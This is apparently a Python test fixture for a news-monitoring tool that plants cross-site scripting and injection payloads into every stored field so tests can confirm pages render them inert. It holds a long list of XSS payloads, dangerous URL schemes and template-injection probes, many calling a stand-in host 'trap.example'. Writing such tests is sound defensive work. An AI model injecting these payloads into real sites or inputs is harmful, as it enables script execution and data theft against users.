"""Words that would be more than words if a page let them: in every place where a report, a feed or an analyst can put
them."""

from collections.abc import Sequence
from itertools import product
from pathlib import Path

from msgspec.structs import replace

from kutip import store
from kutip.kept import Alert, Feed, Job, Judgement, Kept, Question, Watch
from kutip.record import Metadatum, MetaKind, Part, PartKind
from kutip.store import Store
from tests import newsdesk, paths
from tests.newsdesk import said
from tests.paths import AT

TRAP = "//trap.example"
CALL = f"fetch('{TRAP}'),console.log('ran'),alert(1)"
ADDRESSES = (
    "https://a.example/", f"javascript:{CALL}//", f"JaVaScRiPt:{CALL}//", f"\x01javascript:{CALL}//",
    f" javascript:{CALL}//", f"java\tscript:{CALL}//",
    f"java\nscript:{CALL}//", f"javascript://a.example/%0a{CALL}//", "vbscript:msgbox(1)//",
    f"data:text/html,<script>{CALL}</script>", "file:///etc/passwd#", "blob:https://a.example/",
    "view-source:x", "//a.example/",
    f"feed:javascript:{CALL}//", f"jar:javascript:{CALL}!//", "about:blank#", "http:javascript:1", "\\\\a.example\\",
)  # fmt: skip
"""Where a report may say that it stands; only the web may be led to."""
BESIDE: tuple[PartKind, ...] = ("byline", "caption")
LISTED: tuple[MetaKind, ...] = ("title", "author")
PAYLOADS = (
    f"<script>{CALL}</script>",
    f"</script><script>{CALL}</script>",
    f"<ScRiPt\n>{CALL}</sCrIpT >",
    f'"><script>{CALL}</script>',
    f"'><script>{CALL}</script>",
    f"</title><script>{CALL}</script>",
    f"</textarea><script>{CALL}</script>",
    f"</style><script>{CALL}</script>",
    f"--><script>{CALL}</script><!--",
    f"]]><script>{CALL}</script>",
    f"<script src={TRAP}/a.js></script>",
    f"<script type=module>import '{TRAP}/b.js'</script>",
    f"<img src=x onerror={CALL}>",
    f'"><img src=x onerror="{CALL}">',
    f"<img src={TRAP}/c.png>",
    f"<img srcset='{TRAP}/d.png 1x'>",
    f"<picture><source srcset={TRAP}/e.png><img></picture>",
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><image href={TRAP}/f.png></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={CALL}/>#x'>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}>",
    f"<body onload={CALL}>",
    f"<iframe src=javascript:{CALL}></iframe>",
    f"<iframe srcdoc='<script>{CALL}</script>'></iframe>",
    f"<object data={TRAP}/g></object>",
    f"<embed src={TRAP}/h>",
    f"<link rel=stylesheet href={TRAP}/i.css>",
    f"<link rel=prefetch href={TRAP}/j>",
    f"<style>@import '{TRAP}/k.css'</style>",
    f"<style>*{{background:url({TRAP}/l)}}</style>",
    f"<div style='background:url({TRAP}/m)'>",
    f"<base href={TRAP}/>",
    f"<meta http-equiv=refresh content='0;url={TRAP}/n'>",
    f"<form action={TRAP}/o><button autofocus onfocus={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f'" autofocus onfocus="{CALL}',
    f"' onmouseover='{CALL}",
    f"<details open ontoggle={CALL}>",
    f"<video poster={TRAP}/p><source onerror={CALL}></video>",
    f"<audio src={TRAP}/q autoplay onerror={CALL}>",
    f"<marquee onstart={CALL}>",
    f"<a href=javascript:{CALL}>x</a>",
    f"<a href='java\tscript:{CALL}'>x</a>",
    f"<a ping={TRAP}/r href=/>x</a>",
    f"<template shadowrootmode=open><script>{CALL}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<!--><img src=x onerror={CALL}>-->",
    f"<xmp><img src=x onerror={CALL}></xmp>",
    f"&lt;script&gt;{CALL}&lt;/script&gt;",
    f"&#60;img src=x onerror={CALL}&#62;",
    f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e",
    f"%3Cscript%3E{CALL}%3C/script%3E",
    f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-",
    f"javascript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    "{{7*7}}{% for x in ().__class__.__mro__ %}{{x}}{% endfor %}",
    "${7*7}<%= 7*7 %>#{7*7}",
    "{n}{says}{0.__class__}",
    "\u202e\u2066right to left\u202c",
    "\x00\x1b]0;title\x07\ufeff",
)


def report(payloads: Sequence[str], number: int, address: str = "") -> Kept:
    """A report from that address with payloads in its title, outlet, bylines and captions; each is said by one of its
    own name in a place of that name."""
    joined = "\t".join(payloads)
    claims = [said(payload, payload, payload, place=payload, form="direct") for payload in payloads]
    address = address or f"{ADDRESSES[number % len(ADDRESSES)]}{number}"
    body = "".join(f"{one}<p>{one}</p>" for one in payloads)
    made = newsdesk.kept(*claims, title=joined, outlet=joined, url=address, body=body)
    article = made.reading.article
    text, parts = article.text, list(article.parts)
    for kind, payload in product(BESIDE, payloads):
        parts.append(Part(len(text) + 1, len(text) + 1 + len(payload), kind, payload))
        text = f"{text}\n{payload}"
    meta = tuple(Metadatum(kind, joined, "feed") for kind in LISTED)
    article = replace(
        article, text=text, parts=tuple(parts), authors=tuple(payloads), meta=meta, id=f"sha256:{number:064x}"
    )
    return replace(made, reading=replace(made.reading, article=article))


def fill(path: Path, payloads: Sequence[str]) -> None:
    """A store in which each payload stands wherever words can, and is told of."""
    library = store.open(path, write=True)
    paths.tell(library, [report([payload], number) for number, payload in enumerate(payloads, 1)])
    for payload in payloads:
        written(library, payload)


def keep(path: Path, page: str) -> None:
    """A store with one report, and that page as its preserved copy."""
    paths.tell(store.open(path, write=True), [newsdesk.kept(said("It calls home", "The page"), body=page)])


def written(library: Store, payload: str) -> None:
    """A payload in all that people and feeds write down."""
    asked = Question(words=payload, outlets=(payload,), sources=(payload,), places=(payload,))
    watch = library.put(Watch(0, payload, payload, AT, asked, on=("telling",), to=(payload,), unit=payload))
    words = (payload, payload)
    library.put(Alert(0, watch.id, AT, "telling", payload, None, 1, "c1", None, words, words, title=payload))
    library.put(Feed(0, payload, payload, AT, title=payload, seen=AT, tries=1, why=payload))
    library.put(Job(0, AT, payload, "text", payload, state="failed", why=payload))
    article = library.report(1)
    assert article
    library.put(Judgement(0, AT, payload, "note", payload, article=article.version.article, claim="c1"))
    library.put(Judgement(0, AT, payload, "rating", "B", subject=payload))
